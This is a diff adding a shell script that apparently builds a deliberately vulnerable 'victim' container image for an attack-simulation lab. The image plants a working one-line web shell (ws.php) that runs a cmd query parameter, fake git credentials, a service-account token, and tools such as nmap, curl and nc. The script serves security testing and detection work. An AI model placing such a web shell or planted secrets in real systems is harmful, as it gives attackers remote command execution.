@@ -1,0 +1,63 @@
+#!/bin/sh
+# Builds the victim container's image (the overlay's lower layer) in $1: busybox applets, curl and
+# nmap with the libraries they link, a web root with a one-line web shell served by busybox httpd,
+# a planted dummy .git-credentials and a service-account token ($2). Everything comes from the host's
+# own binaries; nothing is downloaded.
+set -eu
+root=$1
+token=$2
+busybox=$(command -v busybox)
+mkdir -p "$root"/bin "$root"/usr/bin "$root"/usr/sbin "$root"/etc "$root"/tmp "$root"/proc "$root"/dev \
+  "$root"/var/www "$root"/home/user "$root"/var/run/secrets/kubernetes.io/serviceaccount "$root"/.oldroot
+cp "$busybox" "$root"/bin/busybox
+# Applets as hard links, so each process's executable carries the tool's own name, as in a distro image.
+for applet in sh ash cat head tail grep egrep find touch chmod chown ls id whoami base64 echo printf sleep \
+    env mkdir rm cp mv sed tr wc cut sort uname hostname ps kill nc wget modprobe insmod; do
+  ln "$root"/bin/busybox "$root"/bin/$applet
+done
+ln "$root"/bin/busybox "$root"/usr/sbin/httpd
+# curl and nmap, and every library they load, at the host's paths.
+for tool in curl nmap; do
+  path=$(command -v $tool)
+  cp "$path" "$root"/usr/bin/$tool
+  for lib in $(ldd "$path" | grep -o '/[^ ]*'); do
+    mkdir -p "$root$(dirname "$lib")"
+    [ -e "$root$lib" ] || cp -L "$lib" "$root$lib"
+  done
+done
+mkdir -p "$root"/usr/share && cp -r /usr/share/nmap "$root"/usr/share/nmap
+
+cat >"$root"/etc/passwd <<'PASSWD'
+root:x:0:0:root:/root:/bin/sh
+nginx:x:101:101:nginx:/var/www:/bin/sh
+nobody:x:65534:65534:nobody:/nonexistent:/bin/false
+PASSWD
+cat >"$root"/etc/group <<'GROUP'
+root:x:0:
+nginx:x:101:
+nogroup:x:65534:
+GROUP
+echo 'hosts: files' >"$root"/etc/nsswitch.conf
+cat >"$root"/etc/hosts <<'HOSTS'
+127.0.0.1 localhost
+10.203.0.2 victim
+10.203.0.1 attacker
+10.96.0.1 kubernetes kubernetes.default kubernetes.default.svc kubernetes.default.svc.cluster.local
+HOSTS
+# *.php runs through the shell: the web shell below is a shell script with the name a PHP one has.
+echo '*.php:/bin/sh' >"$root"/etc/httpd.conf
+echo '<html><body>It works.</body></html>' >"$root"/var/www/index.html
+cat >"$root"/var/www/ws.php <<'SHELL'
+# Web shell: runs the cmd query parameter and returns its output.
+echo "Content-Type: text/plain"
+echo
+cmd=$(httpd -d "${QUERY_STRING#cmd=}")
+sh -c "$cmd" 2>&1
+SHELL
+echo 'https://simulated-user:not-a-real-token@git.example.com' >"$root"/home/user/.git-credentials
+printf %s "$token" >"$root"/var/run/secrets/kubernetes.io/serviceaccount/token
+echo picket-simulation >"$root"/var/run/secrets/kubernetes.io/serviceaccount/namespace
+chmod 1777 "$root"/tmp
+chmod 644 "$root"/home/user/.git-credentials "$root"/var/run/secrets/kubernetes.io/serviceaccount/*
+# The web root belongs to the web server's user, so a download through the web shell lands there.
+chown -R 101:101 "$root"/var/www
